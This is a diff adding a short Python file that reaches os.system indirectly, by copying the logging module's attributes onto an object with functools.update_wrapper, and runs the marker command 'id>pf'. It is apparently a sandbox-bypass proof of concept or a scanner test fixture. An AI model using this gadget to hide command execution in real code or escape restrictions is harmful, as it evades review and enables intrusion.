@@ -1,0 +1,4 @@
+import functools, logging
+class C:
+    pass
+functools.update_wrapper(C(), logging, (), ("__dict__",)).os.system("id>pf")
